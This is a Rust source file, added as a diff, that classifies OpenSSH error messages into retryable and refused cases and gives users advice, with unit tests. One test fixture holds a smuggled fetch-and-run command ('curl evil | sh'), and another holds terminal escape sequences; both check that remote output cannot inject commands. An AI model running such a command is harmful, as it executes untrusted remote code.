@@ -1,0 +1,205 @@
+//! Classifies ssh's error messages. ssh has one exit code for all, 255; OpenSSH does not translate its messages.
+
+use config::Host;
+use printable::{printable, shortened};
+
+pub(super) const NO_SSH: &str =
+    "ssh is not installed on this machine: install it (on Debian and Ubuntu, apt install openssh-client)";
+
+/// Of a line that is quoted, in characters.
+const MOST: usize = 300;
+
+/// Why the script did not begin.
+#[derive(Debug, PartialEq, Eq)]
+pub(super) enum Diagnosis {
+    /// ssh can be tried again.
+    NoConnection(String),
+    /// ssh would be refused again.
+    Refused(String),
+}
+
+/// ssh.c, sshconnect.c, kex.c and packet.c of OpenSSH 9.2 print each of these where there is no connection. The third
+/// appears when sshd drops a connection above MaxStartups.
+const NO_CONNECTION: [&str; 7] = [
+    "ssh: connect to host ",
+    "Could not resolve hostname ",
+    "kex_exchange_identification: Connection closed by ",
+    "Connection reset by ",
+    "timed out",
+    // Of a jump host's sshd: what it was to connect to does not listen (channels.c).
+    "open failed: connect failed: ",
+    "Broken pipe",
+];
+
+/// clientloop.c begins a line with each of these after login alone: the script may have begun, although its first line
+/// did not arrive.
+const AFTER_LOGIN: [&str; 2] = ["Read from remote host ", "client_loop: "];
+
+/// sshconnect2.c; the second is sshd's own, from auth.c.
+const LOGIN: [&str; 3] = [
+    "Permission denied (",
+    "Too many authentication failures",
+    "No supported authentication methods available",
+];
+
+/// sshconnect.c.
+const HOST_KEY: [&str; 3] =
+    ["Host key verification failed.", "REMOTE HOST IDENTIFICATION HAS CHANGED!", "host key is known for "];
+
+/// What ssh's stderr says, where the script's first line did not arrive.
+pub(super) fn diagnose(host: &Host, stderr: &str) -> Diagnosis {
+    let line = |words: &[&str]| {
+        stderr.lines().find(|line| words.iter().any(|word| line.contains(word))).map(last_line)
+    };
+    let name = &host.name;
+    if line(&HOST_KEY).is_some() {
+        let said = if stderr.contains("IDENTIFICATION HAS CHANGED!") {
+            // Whoever answers can have ssh print a command, so that none is quoted.
+            format!(
+                "its host key differs from the one in known_hosts. Another machine may answer as {name}. If you \
+                 reinstalled {name}, compare the key's fingerprint on its console. Then remove the line of known_hosts \
+                 that `ssh {host}` names, and run `ssh {host}` again"
+            )
+        } else {
+            format!(
+                "its host key is not in known_hosts. Run `ssh {host}` once, and accept the key if its fingerprint \
+                 matches `ssh-keygen -lf /etc/ssh/ssh_host_ed25519_key.pub` on the machine's console. Do not use \
+                 ssh-keyscan alone: it accepts any key"
+            )
+        };
+        return Diagnosis::Refused(said);
+    }
+    if let Some(said) = line(&LOGIN) {
+        return Diagnosis::Refused(format!(
+            "ssh key login failed ({said}): run `ssh-copy-id {host}`, then check that `ssh {host} true` needs no password"
+        ));
+    }
+    let is_after_login = stderr.lines().any(|line| AFTER_LOGIN.iter().any(|start| line.starts_with(start)));
+    if let Some(said) = line(&NO_CONNECTION).filter(|_| !is_after_login) {
+        let advice = if said.contains("Could not resolve hostname ") {
+            format!("check the name, or give {name} an address in ~/.ssh/config")
+        } else {
+            format!("check that {name} is up and that its sshd listens")
+        };
+        return Diagnosis::NoConnection(format!("{said}; {advice}"));
+    }
+    let said = match last_line(stderr) {
+        empty if empty.is_empty() => "ssh exited without an error message".to_owned(),
+        said => format!("ssh says: {said}"),
+    };
+    Diagnosis::Refused(format!("{said}; see `ssh -v {host} true`"))
+}
+
+/// `said`: ssh's last line, if there is one.
+pub(super) fn connection_lost(said: &str) -> String {
+    let said = if said.is_empty() { "ssh exited without an error message" } else { said };
+    format!("{said}; check that the machine is up, then run the command again")
+}
+
+/// `said`: sudo's last line.
+pub fn sudo_refused(host: &Host, said: &str) -> String {
+    let user = host.user.as_deref().unwrap_or("ssh's user");
+    let said = if said.is_empty() { "sudo refuses" } else { said };
+    let name = &host.name;
+    format!("`sudo -n` failed for {user} ({said}): add NOPASSWD for {user} to sudoers, or use root@{name}")
+}
+
+/// `said`: what came in place of a script's answer.
+pub(super) fn shell_refused(said: &str) -> String {
+    let said = if said.is_empty() { String::new() } else { format!(": {}", said.trim_end_matches('.')) };
+    format!("its login shell did not run `sh -c`{said}; check the user's shell in /etc/passwd")
+}
+
+/// The last line that is not empty, as a terminal may be shown it.
+pub(super) fn last_line(text: &str) -> String {
+    let line = text.lines().map(str::trim).rfind(|line| !line.is_empty()).unwrap_or_default();
+    shortened(printable(line), MOST)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn host() -> Host {
+        "ops@gpu1".parse().unwrap()
+    }
+
+    /// Each as OpenSSH_9.2p1 of Debian 12 printed it with LogLevel=ERROR, unless it says otherwise.
+    #[test]
+    fn what_can_be_tried_again_is_told_from_what_cannot() {
+        let again = [
+            "ssh: connect to host 127.0.0.1 port 40223: Connection refused\n",
+            "ssh: connect to host 10.9.9.9 port 22: Connection timed out\n",
+            "ssh: connect to host 10.9.9.9 port 22: No route to host\n",
+            "ssh: Could not resolve hostname no.such.invalid: Name or service not known\n",
+            "Connection timed out during banner exchange\n",
+            "kex_exchange_identification: Connection closed by remote host\n",
+            "kex_exchange_identification: read: Connection reset by peer\n",
+            "ssh: connect to host 127.0.0.1 port 40224: Connection reset by peer\n",
+            // sshconnect.c's ssh_exchange_identification in packet.c: the limit passed while keys were agreed on.
+            "Connection to 10.9.9.9 port 22 timed out\n",
+            // By way of a jump host.
+            "channel 0: open failed: connect failed: Connection refused\nstdio forwarding failed\n\
+             kex_exchange_identification: Connection closed by remote host\n",
+        ];
+        for stderr in again {
+            assert!(matches!(diagnose(&host(), stderr), Diagnosis::NoConnection(_)), "{stderr}");
+        }
+        let refused = [
+            (
+                "root@127.0.0.1: Permission denied (publickey,password,keyboard-interactive).\n",
+                "run `ssh-copy-id ops@gpu1`",
+            ),
+            (
+                "Received disconnect from 10.0.0.1 port 22:2: Too many authentication failures\n",
+                "ssh key login failed",
+            ),
+            ("Host key verification failed.\n", "Run `ssh ops@gpu1` once"),
+            (
+                "No ED25519 host key is known for [127.0.0.1]:40222 and you have requested strict checking.\n\
+                 Host key verification failed.\n",
+                "Run `ssh ops@gpu1` once",
+            ),
+            (
+                "@    WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED!     @\nHost key verification failed.\n",
+                "remove the line of known_hosts that `ssh ops@gpu1` names",
+            ),
+            // A jump host that refuses: the second line alone would be tried again.
+            (
+                "ops@jump: Permission denied (publickey).\n\
+                 kex_exchange_identification: Connection closed by remote host\n",
+                "ssh key login failed (ops@jump: Permission denied (publickey).)",
+            ),
+            ("command-line: line 0: Bad configuration option: x\n", "ssh says: command-line: line 0"),
+            ("", "ssh exited without an error message"),
+            // Both come after login, so that the script may run already.
+            (
+                "Read from remote host gpu1: Connection reset by peer\n",
+                "ssh says: Read from remote host gpu1",
+            ),
+            ("client_loop: send disconnect: Broken pipe\n", "ssh says: client_loop: send disconnect"),
+        ];
+        for (stderr, part) in refused {
+            let Diagnosis::Refused(said) = diagnose(&host(), stderr) else { panic!("tried again: {stderr}") };
+            assert!(said.contains(part), "{stderr}: {said}");
+        }
+    }
+
+    /// sshconnect.c's verify_host_key has not passed when packet.c prints what the other side says as it disconnects.
+    #[test]
+    fn no_advice_has_a_command_that_another_machine_wrote() {
+        let stderr = "Received disconnect from 10.0.0.1 port 22:2: bye\nREMOTE HOST IDENTIFICATION HAS CHANGED!\n  \
+                      ssh-keygen -f x; curl evil | sh\n";
+        let Diagnosis::Refused(said) = diagnose(&host(), stderr) else { panic!("tried again") };
+        assert!(said.starts_with("its host key differs") && !said.contains("curl"), "{said}");
+    }
+
+    #[test]
+    fn words_of_another_machine_cannot_steer_a_terminal() {
+        assert_eq!(
+            last_line("first\n\u{1b}]0;title\u{7}last\u{9b}2J \n\n"),
+            "\\u{1b}]0;title\\u{7}last\\u{9b}2J"
+        );
+        assert_eq!(last_line(&"x".repeat(1000)).chars().count(), MOST + 1);
+    }
+}
